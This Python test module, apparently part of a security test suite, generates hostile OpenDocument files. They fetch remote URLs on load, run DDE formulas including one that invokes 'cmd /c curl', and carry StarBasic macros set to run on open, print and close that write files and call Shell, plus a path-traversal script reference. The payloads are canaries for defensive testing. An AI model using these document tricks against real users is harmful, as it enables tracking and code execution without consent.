"""OpenDocument texts, sheets, slides and drawings that fetch, link, or run macros when opened."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial
from typing import Final

from tests.hostile import office_packages as office
from tests.hostile.hostile_file import ODG, ODP, ODS, ODT, HostileFile, Lure, filled

_SIMPLE: Final = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'
_FRAME: Final = '<draw:frame svg:width="3cm" svg:height="3cm">INSIDE</draw:frame>'
_IMAGE: Final = f'<draw:image xlink:href="URL" {_SIMPLE}/>'
_OBJECT: Final = f'<draw:object xlink:href="URL" {_SIMPLE}/>'
_PLUGIN: Final = f'<draw:plugin xlink:href="URL" draw:mime-type="video/mp4" {_SIMPLE}/>'
_FLOATING: Final = f'<draw:floating-frame xlink:href="URL" {_SIMPLE}/>'
_APPLET: Final = f'<draw:applet xlink:href="URL" draw:code="x" {_SIMPLE}/>'
_TEXTS: Final = {
    "image": ("png", _FRAME.replace("INSIDE", _IMAGE)),
    "object": ("csv", _FRAME.replace("INSIDE", _OBJECT)),
    "plugin": ("png", _FRAME.replace("INSIDE", _PLUGIN)),
    "floating-frame": ("html", _FRAME.replace("INSIDE", _FLOATING)),
    "applet": ("html", _FRAME.replace("INSIDE", _APPLET)),
    "section": (
        "txt",
        '<text:section text:name="s"><text:section-source xlink:href="URL" xlink:type="simple"/>'
        "<text:p>x</text:p></text:section>",
    ),
    "section-of-page": (
        "html",
        '<text:section text:name="s"><text:section-source xlink:href="URL" '
        'text:filter-name="HTML (StarWriter)"/></text:section>',
    ),
    "dde-section": (
        "csv",
        '<text:section text:name="s"><office:dde-source office:dde-application="soffice" '
        'office:dde-topic="URL" office:dde-item="A1" office:automatic-update="true"/>'
        "<text:p>x</text:p></text:section>",
    ),
    "script": (
        "txt",
        '<text:p><text:script xlink:href="URL" script:language="JavaScript"/></text:p>',
    ),
    "form": (
        "html",
        '<office:forms><form:form xlink:href="URL" form:command="x" form:datasource="URL">'
        '<form:image-frame form:image-data="URL"/></form:form></office:forms>',
    ),
    "database": (
        "csv",
        '<text:p><text:database-display text:database-name="URL" text:table-name="x" '
        'text:column-name="y"/></text:p>',
    ),
}
_CELLS: Final = {
    "webservice": ("txt", 'of:=WEBSERVICE("URL")'),
    "filterxml": ("txt", 'of:=FILTERXML(WEBSERVICE("URL");"//x")'),
    "other-file": ("csv", "of:='URL'#$One.A1"),
    "dde": ("csv", 'of:=DDE("soffice";"URL";"A1";0)'),
    "dde-command": ("csv", 'of:=DDE("cmd";"/c curl URL";"x")'),
    "hyperlink": ("txt", 'of:=HYPERLINK("URL";"x")'),
    "indirect": ("csv", "of:=INDIRECT(\"'URL'#$One.A1\")"),
    "several": ("csv", "of:=MULTIPLE.OPERATIONS('URL'#$One.A1;A1;A2)"),
}
_TABLES: Final = {
    "table-source": ("csv", f'<table:table-source xlink:href="URL" {_SIMPLE} table:table-name="One"/>'),
    "shapes": ("png", f'<table:shapes>{_FRAME.replace("INSIDE", _IMAGE)}</table:shapes>'),
}  # fmt: skip
_PAGES: Final = {
    "image": ("png", _FRAME.replace("INSIDE", _IMAGE)),
    "plugin": ("png", _FRAME.replace("INSIDE", _PLUGIN)),
    "sound": (
        "png",
        '<draw:rect svg:width="3cm" svg:height="3cm"><office:event-listeners>'
        '<presentation:event-listener script:event-name="dom:click" presentation:action="sound">'
        f'<presentation:sound xlink:href="URL" {_SIMPLE}/></presentation:event-listener>'
        "</office:event-listeners></draw:rect>",
    ),
}
_EVENTS: Final = ("office:load-finished", "dom:load", "office:new", "office:print", "dom:unload")
_SCRIPTS: Final = {
    "basic": "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document",
    "python": "vnd.sun.star.script:../../../../tmp/x.py$run?language=Python&amp;location=share",
    "command": "vnd.libreoffice.command:slot:5500?URL:string=CANARY",
    "uno": "vnd.sun.star.UNO:slot:5500",
    "program": "file:///usr/bin/touch",
}


def files(lure: Lure) -> Iterator[HostileFile]:
    """Yield documents that name places of ours, and documents with macros that run when opened."""
    kind = "OpenDocument: links"
    yield from filled(kind, ODT, _TEXTS, _text, lure, in_turn=True)
    yield from filled(kind, ODS, _CELLS, _cell, lure, in_turn=True)
    yield from filled(kind, ODS, _TABLES, _table, lure, in_turn=True)
    yield from filled(kind, ODP, _PAGES, partial(_page, ODP), lure, in_turn=True)
    yield from filled(kind, ODG, {"image": _PAGES["image"]}, partial(_page, ODG), lure)
    scratch = str(lure.folder / "written-by-a-macro")
    for name, script in _SCRIPTS.items():
        for media_type, extension in ((ODT, "odt"), (ODS, "ods"), (ODP, "odp")):
            make = partial(_listening, media_type, script.replace("CANARY", scratch), scratch)
            yield HostileFile("Macros", f"{name}-on-opening.{extension}", media_type, make)


def _text(inside: str) -> bytes:
    return office.open_document(ODT, f"<text:p>words</text:p>{_anchored(inside)}")


def _anchored(inside: str) -> str:
    return f"<text:p>{inside}</text:p>" if inside.startswith("<draw:frame") else inside


def _cell(formula: str) -> bytes:
    plain = formula.replace("&", "&amp;").replace('"', "&quot;")
    cell = f'<table:table-cell table:formula="{plain}"/>'
    return office.open_document(ODS, office.calc_table(cell))


def _table(inside: str) -> bytes:
    return office.open_document(ODS, office.calc_table(more=inside))


def _page(media_type: str, inside: str) -> bytes:
    return office.open_document(media_type, office.page(inside))


def _listening(media_type: str, script: str, scratch: str) -> bytes:
    """A document whose events run a macro that would write, fetch, and start a program."""
    listeners = "".join(
        f'<script:event-listener script:language="ooo:script" script:event-name="{event}" '
        f'xlink:href="{script}" xlink:type="simple"/>'
        for event in _EVENTS
    )
    head = f"<office:scripts><office:event-listeners>{listeners}</office:event-listeners></office:scripts>"
    bodies = {
        ODT: "<text:p>words</text:p>",
        ODS: office.calc_table(),
        ODP: office.page(""),
    }
    module = (
        '<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" '
        'script:name="Module1" script:language="StarBasic">Sub Main\nOpen "'
        f'{scratch}" For Output As #1\nPrint #1, "x"\nClose #1\nShell("touch {scratch}")\n'
        "End Sub</script:module>"
    )
    library = (
        '<?xml version="1.0"?><library:libraries xmlns:library="http://openoffice.org/2000/library"'
        ' xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" '
        'library:link="false"/></library:libraries>'
    )
    modules = (
        '<?xml version="1.0"?><library:library xmlns:library="http://openoffice.org/2000/library" '
        'library:name="Standard"><library:element library:name="Module1"/></library:library>'
    )
    return office.open_document(
        media_type,
        bodies[media_type],
        head,
        {
            "Basic/script-lc.xml": library,
            "Basic/Standard/script-lb.xml": modules,
            "Basic/Standard/Module1.xml": module,
        },
    )
